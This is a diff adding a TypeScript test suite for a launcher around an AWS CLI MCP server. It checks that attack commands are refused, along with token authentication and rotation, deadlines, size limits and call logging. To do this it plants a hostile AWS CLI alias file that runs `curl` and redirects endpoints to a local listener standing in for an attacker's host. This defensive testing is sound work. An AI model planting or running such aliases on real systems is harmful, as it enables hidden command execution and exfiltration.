@@ -1,0 +1,351 @@
+// What the launcher adds to the server: refusals, tokens, deadlines and bounds, free slots, the call log.
+import { once } from "node:events";
+import { mkdir, mkdtemp, readdir, rename, stat, writeFile } from "node:fs/promises";
+import { type AddressInfo, connect as connectSocket, createServer, type Server } from "node:net";
+import path from "node:path";
+import { setTimeout as sleep } from "node:timers/promises";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import ATTACKS from "../../image/launcher/tests/attacks.json" with { type: "json" };
+import { freePort } from "../../scripts/common/processes.js";
+import { callTool, type McpEndpoint, withMcp } from "../../scripts/emulation/mcpClient.js";
+import { type Lab, type Running, startLab } from "./lab.js";
+import { RawSession } from "./rawSession.js";
+
+/** Of the server's commands in one call. */
+const MAX_BATCH = 20;
+
+let lab: Lab;
+/** The attacker's host: counts the connections that reach it. */
+let listener: Server;
+let connections = 0;
+let listenerHost: string;
+
+beforeAll(async () => {
+  lab = await startLab({ marks: 100 });
+  listener = createServer((socket) => {
+    connections += 1;
+    socket.destroy();
+  });
+  await once(listener.listen(0, "127.0.0.1"), "listening");
+  listenerHost = `127.0.0.1:${(listener.address() as AddressInfo).port}`;
+});
+afterAll(async () => {
+  listener?.close();
+  await lab?.close();
+});
+
+const run = (endpoint: McpEndpoint, command: string | readonly string[]) =>
+  callTool(endpoint, "call_aws", { cli_command: command });
+const attack = (command: string) => command.replaceAll("{profile}", "mark-0").replaceAll("{listener}", listenerHost);
+const parameter = (name: string) => `aws ssm get-parameter --name ${name} --profile mark-0`;
+
+/** Lines of the call log, oldest first. */
+const calls = (running: Running): Record<string, unknown>[] =>
+  running
+    .log()
+    .split("\n")
+    .filter((line) => line.startsWith('{"time"'))
+    .map((line) => JSON.parse(line));
+const count = (values: readonly unknown[]) => {
+  const counts: Record<string, number> = {};
+  for (const value of values) counts[String(value)] = (counts[String(value)] ?? 0) + 1;
+  return counts;
+};
+
+async function bytesBelow(folder: string): Promise<number> {
+  let bytes = 0;
+  for (const entry of await readdir(folder, { recursive: true, withFileTypes: true }))
+    if (entry.isFile()) bytes += (await stat(path.join(entry.parentPath, entry.name))).size;
+  return bytes;
+}
+
+describe.each(["sse", "streamable-http"] as const)("%s", (transport) => {
+  describe("with the defaults", () => {
+    let running: Running;
+    let home: string;
+    let metricsPort: number;
+    beforeAll(async () => {
+      home = await mkdtemp(path.join(lab.folder, "guards-"));
+      // Aliases of the AWS CLI run programs and add options.
+      await mkdir(path.join(home, ".aws/cli"), { recursive: true });
+      await writeFile(
+        path.join(home, ".aws/cli/alias"),
+        `[toplevel]\nprogram = !curl http://${listenerHost}\noption = sts get-caller-identity --endpoint-url http://${listenerHost}\n`,
+      );
+      metricsPort = await freePort();
+      const environment = { HOME: home, AWS_API_MCP_HOST: "127.0.0.1" };
+      running = await lab.start(transport, { config: { metricsPort }, environment });
+    });
+    afterAll(() => running?.stop());
+
+    const attacks = [
+      ...Object.entries(ATTACKS).flatMap(([outcome, commands]) => commands.map((command) => ({ outcome, command }))),
+      ...["program", "option"].map((alias) => ({ outcome: "refused", command: `aws ${alias} --profile {profile}` })),
+    ];
+
+    test(`${attacks.length} attacks are refused, alone and in lists, and reach no listener`, async () => {
+      const seen = connections;
+      const before = calls(running).length;
+      const passed: string[] = [];
+      for (const { command } of attacks) {
+        const { isError } = await run(running.endpoint, attack(command));
+        if (!isError) passed.push(command);
+      }
+      const outcomes = calls(running).slice(before);
+      const found = attacks.map(({ command }, index) => ({ outcome: outcomes[index]?.outcome, command }));
+      expect(found).toEqual(attacks);
+      const good = lab.marked(1);
+      for (let start = 0; start < attacks.length; start += MAX_BATCH - 1) {
+        const commands = attacks.slice(start, start + MAX_BATCH - 1).map(({ command }) => attack(command));
+        const { text, isError } = await run(running.endpoint, [good.command, ...commands]);
+        const [first, ...others] = JSON.parse(text) as { response?: { Arn: string }; error?: string }[];
+        // One command of the list succeeded.
+        expect(isError).toBe(false);
+        expect(`${first!.response!.Arn}"`).toBe(good.arn);
+        expect(others).toHaveLength(commands.length);
+        passed.push(...commands.filter((_, index) => others[index]!.error === undefined));
+      }
+      expect(passed).toEqual([]);
+      expect(connections).toBe(seen);
+      // The listener does count.
+      await once(connectSocket((listener.address() as AddressInfo).port, "127.0.0.1").resume(), "close");
+      expect(connections).toBe(seen + 1);
+    });
+
+    test("a parameter that is a URL is not fetched", async () => {
+      const seen = connections;
+      await run(running.endpoint, parameter(`http://${listenerHost}/name`));
+      await run(running.endpoint, `${lab.marked(0).command} --cli-input-json http://${listenerHost}/input`);
+      await run(running.endpoint, `aws logs tail http://${listenerHost}/group --profile mark-0`);
+      expect(connections).toBe(seen);
+    });
+
+    test("commands of 64 kB and more are refused and fill no volume", async () => {
+      const before = await bytesBelow(home);
+      for (let call = 0; call < 17; call += 1) {
+        const answer = await run(running.endpoint, `aws ec2 describe-vpcs --vpc-ids ${"x".repeat(90_000)}`);
+        expect(answer).toEqual({ isError: true, text: expect.stringMatching(/has \d+ bytes.*at most 65536/) });
+      }
+      expect((await bytesBelow(home)) - before).toBeLessThan(100_000);
+    });
+
+    test("initialize, ping and tools/list answer within 200 ms (p95) while 50 slow calls run", async () => {
+      const quick = async () => {
+        const times: number[] = [];
+        const timed = async (work: () => Promise<unknown>) => {
+          const began = performance.now();
+          await work();
+          times.push(performance.now() - began);
+        };
+        for (let round = 0; round < 30; round += 1) {
+          let session: RawSession;
+          await timed(async () => {
+            session = await RawSession.open(running.endpoint);
+          });
+          await timed(() => session.request("ping", {}));
+          await timed(() => session.request("tools/list", {}));
+          session!.close();
+        }
+        times.sort((a, b) => a - b);
+        return times[Math.floor(times.length * 0.95)]!;
+      };
+      const idle = await quick();
+      let done = 0;
+      const slow = Array.from({ length: 50 }, async (_, mark) => {
+        const command = `aws ssm get-parameter --name /hold/busy-${transport}-${mark} --profile mark-${mark}`;
+        const { isError } = await run(running.endpoint, command);
+        done += 1;
+        return isError;
+      });
+      // Every slot has a call that AWS does not answer; the others wait for a slot.
+      while (lab.parameters.open.length < 16) await sleep(50);
+      const busy = await quick();
+      expect(done).toBe(0);
+      while (done < slow.length) {
+        for (const name of lab.parameters.open) lab.parameters.release(name);
+        await sleep(50);
+      }
+      expect((await Promise.all(slow)).filter(Boolean)).toEqual([]);
+      const figures = [idle, busy].map((time) => `${time.toFixed(0)} ms`);
+      process.stderr.write(
+        `${transport}: p95 of small requests: idle ${figures[0]}, beside 50 slow calls ${figures[1]}\n`,
+      );
+      // A machine that is slow by itself is not the server's fault.
+      expect(busy).toBeLessThan(Math.max(200, 3 * idle));
+    });
+
+    test("the call log and the metrics count what 50 clients counted", async () => {
+      const metrics = async () => {
+        const text = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
+        const counts: Record<string, number> = { ok: 0, refused: 0 };
+        for (const [, outcome, value] of text.matchAll(/^aws_mcp_commands_total\{.*outcome="(\w+)"\} (\d+)$/gm))
+          counts[outcome!] = (counts[outcome!] ?? 0) + Number(value);
+        return counts;
+      };
+      const [logged, counted] = [calls(running).length, await metrics()];
+      const outcomes: string[] = [];
+      await Promise.all(
+        Array.from({ length: 50 }, async (_, mark) => {
+          await withMcp(running.endpoint, async (client) => {
+            for (const command of [lab.marked(mark).command, "aws sts get-caller-identity"]) {
+              const { isError } = await client.callTool({ name: "call_aws", arguments: { cli_command: command } });
+              outcomes.push(isError ? "refused" : "ok");
+            }
+          });
+        }),
+      );
+      const expected = { ok: 50, refused: 50 };
+      expect(count(outcomes)).toEqual(expected);
+      const lines = calls(running).slice(logged);
+      expect(count(lines.map(({ outcome }) => outcome))).toEqual(expected);
+      const after = await metrics();
+      expect({ ok: after.ok! - counted.ok!, refused: after.refused! - counted.refused! }).toEqual(expected);
+      for (const line of lines.filter(({ outcome }) => outcome === "ok")) {
+        const keys = ["time", "session", "tool", "service", "operation", "profile", "account", "region"];
+        expect(Object.keys(line)).toEqual([...keys, "milliseconds", "bytes", "outcome"]);
+      }
+    });
+  });
+
+  describe("with one slot and a deadline of 5 s", () => {
+    let running: Running;
+    beforeAll(async () => {
+      running = await lab.start(transport, {
+        config: { concurrency: 1, callTimeoutSeconds: 5, maxAnswerBytes: 10_000 },
+      });
+    });
+    afterAll(() => running?.stop());
+
+    /** The slot is free again: a good call is answered at once. */
+    const isFree = async () => {
+      const { command, arn } = lab.marked(3);
+      expect((await run(running.endpoint, command)).text).toContain(arn);
+    };
+    const byPath = (milliseconds: number) =>
+      `aws ssm get-parameters-by-path --path /pages/${milliseconds} --profile mark-0`;
+
+    test("a call whose pages never end ends at its deadline", async () => {
+      const began = performance.now();
+      const answer = await run(running.endpoint, byPath(200));
+      expect(answer).toEqual({ isError: true, text: expect.stringMatching(/did not finish in time.*--query/) });
+      expect(performance.now() - began).toBeLessThan(8000);
+      await isFree();
+    });
+
+    test("a call whose fast pages never end ends at a bound", async () => {
+      const answer = await run(running.endpoint, byPath(0));
+      expect(answer).toEqual({ isError: true, text: expect.stringMatching(/exceeds|pages|in time/) });
+      await isFree();
+    });
+
+    test("a call that AWS does not answer ends at its deadline", async () => {
+      const answer = await run(running.endpoint, parameter(`/hold/deadline-${transport}`));
+      expect(answer).toEqual({ isError: true, text: expect.stringContaining("did not finish in time") });
+      await isFree();
+    });
+
+    test("an answer above maxAnswerBytes is an error", async () => {
+      const answer = await run(running.endpoint, parameter(`/size/20000/${transport}`));
+      expect(answer).toEqual({ isError: true, text: expect.stringMatching(/exceeds 10000 bytes.*--query/) });
+      await isFree();
+    });
+
+    // The gateway forwards no cancellation (docs/server.md).
+    test.skipIf(transport === "sse")("a caller that leaves frees its slot", async () => {
+      const name = `/hold/leaves-${transport}`;
+      const session = await RawSession.open(running.endpoint);
+      void session.request("tools/call", { name: "call_aws", arguments: { cli_command: parameter(name) } });
+      await lab.parameters.asked(name);
+      session.close();
+      const began = performance.now();
+      await isFree();
+      // Earlier than the deadline of the call that was left.
+      expect(performance.now() - began).toBeLessThan(3000);
+      expect(calls(running).map(({ outcome }) => outcome)).toContain("cancelled");
+    });
+  });
+
+  describe("with a token at the door", () => {
+    const [first, second] = ["a".repeat(32), "b".repeat(48)];
+    let running: Running;
+    let file: string;
+    const write = async (...tokens: string[]) => {
+      // As the kubelet does: the file is replaced, not written to.
+      await writeFile(`${file}.new`, `${tokens.join("\n")}\n`, { mode: 0o600 });
+      await rename(`${file}.new`, file);
+    };
+    const attempt = (token?: string) => run({ ...running.endpoint, token }, lab.marked(5).command);
+    beforeAll(async () => {
+      file = path.join(await mkdtemp(path.join(lab.folder, "tokens-")), "tokens");
+      await write(first);
+      running = await lab.start(transport, { environment: { HOLMES_AWS_MCP_TOKENS_FILE: file } });
+    });
+    afterAll(() => running?.stop());
+
+    test("a request without a token or with a wrong one gets 401, and /healthz needs none", async () => {
+      const { origin } = new URL(running.endpoint.url);
+      const sse = transport === "sse";
+      const headers = [
+        {},
+        ...["", "x", first.slice(1), `${first}x`, second].map((token) => `Bearer ${token}`),
+        `Basic ${first}`,
+      ].map((value) => (typeof value === "string" ? { authorization: value } : value));
+      for (const [url, method] of sse
+        ? [
+            [running.endpoint.url, "GET"],
+            [`${origin}/message?sessionId=x`, "POST"],
+          ]
+        : [[running.endpoint.url, "POST"]]) {
+        for (const header of headers) {
+          const body = method === "POST" ? "{}" : null;
+          const response = await fetch(url!, {
+            method: method!,
+            headers: { ...header, "content-type": "application/json" },
+            body,
+          });
+          expect([response.status, response.headers.get("www-authenticate")]).toEqual([
+            401,
+            expect.stringMatching(/^Bearer\b/),
+          ]);
+          await response.body?.cancel();
+        }
+      }
+      await expect(attempt()).rejects.toThrow(/401|bearer/i);
+      expect((await fetch(`${origin}/healthz`)).status).toBe(200);
+      expect((await attempt(first)).text).toContain(lab.marked(5).arn);
+    });
+
+    test("a rotation fails no call, and ends the old token", async () => {
+      let token = first;
+      let stop = false;
+      let answered = 0;
+      const failures: unknown[] = [];
+      const clients = Array.from({ length: 4 }, async () => {
+        while (!stop) {
+          try {
+            const { text } = await attempt(token);
+            if (!text.includes(lab.marked(5).arn)) failures.push(text);
+            answered += 1;
+          } catch (error) {
+            failures.push(error);
+          }
+        }
+      });
+      const answers = async (more: number) => {
+        const goal = answered + more;
+        while (answered < goal && failures.length === 0) await sleep(20);
+      };
+      await answers(8);
+      await write(second, first);
+      await answers(8);
+      token = second;
+      await answers(8);
+      await write(second);
+      await answers(8);
+      stop = true;
+      await Promise.all(clients);
+      expect(failures).toEqual([]);
+      await expect(attempt(first)).rejects.toThrow(/401|bearer/i);
+    });
+  });
+});
